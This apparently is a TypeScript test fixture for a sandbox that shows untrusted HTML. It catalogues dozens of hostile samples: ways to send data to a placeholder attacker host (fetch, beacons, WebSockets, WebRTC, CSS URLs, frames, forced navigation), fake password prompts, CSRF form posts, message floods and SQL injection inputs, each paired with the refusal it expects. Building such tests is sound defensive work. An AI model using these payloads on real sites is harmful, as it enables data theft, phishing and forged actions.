/** Free HTML that is wholly on an attacker's side. EVIL stands for the attacker's address, VIEWER for the page that shows it. */
export type HostileView = {
  name: string
  html: string
  /** Whether it takes its own page away, or all that it may send, so that nothing else can be tried beside it. */
  alone: boolean
}

const script = (name: string, code: string): HostileView => markup(name, `<script>{ ${code} }</script>`)
const markup = (name: string, html: string): HostileView => ({ name, html: `<p>Hello</p>${html}`, alone: false })
const eachAlone = (views: HostileView[]): HostileView[] => views.map((view) => ({ ...view, alone: true }))

/** Each tries to carry something out, by one way. */
export const waysOut: HostileView[] = [
  script("fetch", `fetch("EVIL/fetch", { mode: "no-cors" })`),
  script(
    "fetch that outlives the page",
    `fetch("EVIL/keepalive", { method: "POST", body: "x", keepalive: true, mode: "no-cors" })`,
  ),
  script("XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr"); x.send()`),
  script("a beacon", `navigator.sendBeacon("EVIL/beacon", "x")`),
  script("a WebSocket", `new WebSocket("EVIL/ws".replace("http", "ws"))`),
  script("an EventSource", `new EventSource("EVIL/events")`),
  script("WebTransport", `new WebTransport("EVIL/transport".replace("http", "https"))`),
  script("an image of a script", `new Image().src = "EVIL/image"`),
  markup(
    "an image",
    `<img src="EVIL/img"><picture><source srcset="EVIL/source"><img srcset="EVIL/srcset 2x"></picture>`,
  ),
  markup("an image button", `<input type="image" src="EVIL/button">`),
  markup(
    "video and sound",
    `<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio>`,
  ),
  markup("subtitles", `<video><track default src="EVIL/track"></video>`),
  markup("an SVG image", `<svg><image href="EVIL/svg"/><use href="EVIL/use#x"/></svg>`),
  markup(
    "an SVG filter",
    `<svg><filter id="f"><feImage href="EVIL/filter"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ),
  markup(
    "an address in CSS",
    `<style>p { background: url("EVIL/css"); cursor: url("EVIL/cursor"), auto; list-style: url("EVIL/list") }</style>`,
  ),
  markup("an import in CSS", `<style>@import "EVIL/import";</style>`),
  markup("a font", `<style>@font-face { font-family: x; src: url("EVIL/font") } p { font-family: x }</style>`),
  markup(
    "CSS that reads a value",
    `<input value="s"><style>input[value^="s"] { background: image-set("EVIL/s" 1x) }</style>`,
  ),
  markup("a style sheet", `<link rel="stylesheet" href="EVIL/sheet">`),
  markup("an icon and a manifest", `<link rel="icon" href="EVIL/icon"><link rel="manifest" href="EVIL/manifest">`),
  markup(
    "prefetching",
    `<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload"><link rel="modulepreload" href="EVIL/module">`,
  ),
  markup(
    "connecting beforehand",
    `<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL"><link rel="prerender" href="EVIL/prerender">`,
  ),
  markup(
    "speculation rules",
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/rules"]}],"prerender":[{"source":"list","urls":["EVIL/rules2"]}]}</script>`,
  ),
  markup(
    "a script from elsewhere",
    `<script src="EVIL/script"></script><script type="module" src="EVIL/module"></script>`,
  ),
  script("a module imported", `import("EVIL/imported")`),
  script(
    "a worker",
    `new Worker(URL.createObjectURL(new Blob(['fetch("EVIL/worker",{mode:"no-cors"});importScripts("EVIL/scripts")'])))`,
  ),
  script("a shared worker", `new SharedWorker("data:text/javascript,fetch('EVIL/shared')")`),
  script("a service worker", `navigator.serviceWorker.register("EVIL/service")`),
  script(
    "a worklet",
    `CSS.paintWorklet.addModule("EVIL/paint"); new AudioContext().audioWorklet.addModule("EVIL/sound")`,
  ),
  markup("a frame", `<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">`),
  markup(
    "a frame within, by srcdoc",
    `<iframe srcdoc="<script>fetch('EVIL/srcdoc',{mode:'no-cors'});location='EVIL/srcdocnav'</script><img src='EVIL/srcdocimg'>"></iframe>`,
  ),
  script(
    "a frame within, by a blob",
    `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"], { type: "text/html" })); document.body.append(f)`,
  ),
  markup("a frame within, by data", `<iframe src="data:text/html,<img src='EVIL/data'>"></iframe>`),
  markup(
    "a fenced frame",
    `<fencedframe></fencedframe><script>document.querySelector("fencedframe").config = new FencedFrameConfig("EVIL/fenced")</script>`,
  ),
  script(
    "WebRTC by STUN",
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
  ),
  script(
    "WebRTC by TURN",
    `const c = new RTCPeerConnection({ iceTransportPolicy: "relay", iceServers: [{ urls: "turn:STUN?transport=tcp", username: "secret", credential: "x" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
  ),
  script(
    "WebRTC from a frame within",
    `const f = document.createElement("iframe"); f.srcdoc = "<p>x"; document.body.append(f); f.onload = () => { const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)) }`,
  ),
  script(
    "a report of what the policy refused",
    `new ReportingObserver(() => {}).observe(); const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri EVIL/report"; document.head.append(m); new Image().src = "EVIL/reported"`,
  ),
  script("taking the whole window", `try { top.location = "EVIL/top" } catch {} parent.location = "EVIL/parent"`),
  markup("a link to the top, clicked", `<a id="up" href="EVIL/toplink" target="_top">x</a><script>up.click()</script>`),
  markup("a link that downloads", `<a id="down" href="EVIL/download" download>x</a><script>down.click()</script>`),
  script("a popup", `open("EVIL/popup"); open("EVIL/popup2", "_blank", "noopener")`),
  markup(
    "a form to the top",
    `<form id="upward" action="EVIL/topform" target="_top"><input name="x"></form><script>upward.submit()</script>`,
  ),
  markup(
    "a form in a new window",
    `<form action="EVIL/newform" target="_blank"><button id="anew" formaction="EVIL/formaction">x</button></form><script>anew.click()</script>`,
  ),
  ...eachAlone([
    script("going elsewhere itself", `location.href = "EVIL/navigate?secret"`),
    script("going elsewhere by replace", `location.replace("EVIL/replace")`),
    markup("a meta refresh", `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`),
    script(
      "a meta refresh written later",
      `document.write('<meta http-equiv="refresh" content="0;url=EVIL/written">')`,
    ),
    markup("a link clicked by a script", `<a id="a" href="EVIL/link" ping="EVIL/ping">x</a><script>a.click()</script>`),
    markup(
      "a form",
      `<form id="f" action="EVIL/form" method="post"><input name="secret" value="x"></form><script>f.submit()</script>`,
    ),
    markup("a base for what is relative", `<base href="EVIL/base/"><img src="x.png"><script>fetch("y")</script>`),
    script(
      "an address of a script's own",
      `location = "javascript:fetch('EVIL/javascript')"; open("javascript:fetch('EVIL/js2')", "_self")`,
    ),
  ]),
]

/** Each tries to get at the page around it, or at the person. */
export const waysIn: HostileView[] = [
  script(
    "the document around it",
    `try { parent.document.body.textContent = "taken" } catch {} try { top.document.title = "taken" } catch {} parent.taken = 1`,
  ),
  script(
    "cookies and storage",
    `try { document.cookie = "a=b" } catch {} try { localStorage.x = 1 } catch {} indexedDB.open("x")`,
  ),
  script(
    "windows of the browser's own",
    `try { alert("Sign in again") } catch {} try { confirm("x") } catch {} try { prompt("Password") } catch {} try { print() } catch {} onbeforeunload = () => "stay"`,
  ),
  script(
    "the whole screen",
    `document.documentElement.requestFullscreen().catch(() => {}); document.body.requestPointerLock(); Notification.requestPermission()`,
  ),
  script(
    "camera, place and clipboard",
    `navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => {}); navigator.geolocation?.getCurrentPosition(() => {}); navigator.clipboard?.readText().catch(() => {})`,
  ),
  script(
    "the viewer's own deeds",
    `for (const path of ["/do/views/1/agree", "/do/views/1/share", "/do/drafts/1/approve"]) fetch("VIEWER" + path, { method: "POST", mode: "no-cors", credentials: "include", body: "version=1" })`,
  ),
  markup(
    "a window that looks like the viewer's",
    `<style>html, body { margin: 0 } #d { position: fixed; inset: 0; width: 200vw; height: 500vh; z-index: 2147483647 }</style><dialog id="d"><h2>Small Giant</h2><p>Sign in again</p><input type="password"></dialog><script>d.showModal()</script>`,
  ),
  script(
    "a height without end",
    `setInterval(() => parent.postMessage({}, "*"), 50); view.ready.then(() => { document.body.style.height = "900000px" })`,
  ),
  script(
    "a message without bottom",
    `let deep = {}; for (let i = 0; i < 5000; i += 1) deep = { deep }; view.ready.then(() => view.keep(deep).catch(() => {}))`,
  ),
  script(
    "messages that are none",
    `for (const x of [null, 1, "x", [], { jsonrpc: "1" }, { jsonrpc: "2.0", method: { toString: 1 } }, new Map(), 1n]) parent.postMessage(x, "*"); view.ready.then(() => view.keep([1]).catch(() => {}))`,
  ),
  script(
    "a second port",
    `const { port1, port2 } = new MessageChannel(); view.ready.then(() => parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/initialize", params: {} }, "*", [port2]))`,
  ),
  script(
    "methods that there are not",
    `parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/open-link", params: { url: "EVIL/open" } }, "*"); parent.postMessage({ jsonrpc: "2.0", id: 2, method: "ui/message", params: {} }, "*")`,
  ),
  ...eachAlone([
    script(
      "the focus of who types",
      `const i = document.createElement("input"); i.autofocus = true; document.body.append(i); setInterval(() => { focus(); i.blur(); i.focus() }, 20)`,
    ),
    markup(
      "the viewer's own deeds by a form",
      `<form id="f" method="post" action="VIEWER/do/views/1/remove" target="_top"><input name="csrf" value="x"></form><script>f.submit()</script>`,
    ),
    script(
      "a flood of messages to the window",
      `for (let i = 0; i < 20000; i += 1) parent.postMessage({ jsonrpc: "2.0", method: "x", id: i }, "*")`,
    ),
    script(
      "a flood of messages through its port",
      `view.ready.then(() => { for (let i = 0; i < 5000; i += 1) view.keep({ i }).catch(() => {}) })`,
    ),
    script(
      "a flood of proposals",
      `view.ready.then(() => { for (let i = 0; i < 60; i += 1) view.act("lose", null, { i }).catch(() => {}) })`,
    ),
    script(
      "a message without measure",
      `parent.postMessage("x".repeat(30_000_000), "*"); view.ready.then(() => view.keep({ big: "x".repeat(10_000_000) }).catch(() => {}))`,
    ),
    script("a loop that never ends", `setTimeout(() => { for (;;); }, 100)`),
  ]),
]

/** What it asks of the viewer by the way that there is, and what it is told. */
export const askedFor: { name: string; code: string; told: RegExp }[] = [
  { name: "a query that it does not have", code: `view.rows("secrets")`, told: /no query secrets/ },
  { name: "a query of its own", code: `view.rows("SELECT * FROM users")`, told: /no query/ },
  {
    name: "another table by an input",
    code: `view.rows("all", { least: "0 UNION SELECT secret FROM sessions" })`,
    told: /no number/,
  },
  {
    name: "another version by an input",
    code: `view.rows("all", { version: "7", part: "parts", query: "all" })`,
    told: /^\[/,
  },
  { name: "an action that it does not have", code: `view.act("leads.merge")`, told: /no action/ },
  { name: "an action about no row", code: `view.act("lose")`, told: /needs lead_id/ },
  {
    name: "an action about a row that it made up",
    code: `view.rows("all").then(([row]) => { row.lead_id = 2; return view.act("lose", { lead_id: 2 }) })`,
    told: /needs lead_id/,
  },
  { name: "a state that is too large", code: `view.keep({ big: "x".repeat(30000) })`, told: /20000/ },
]
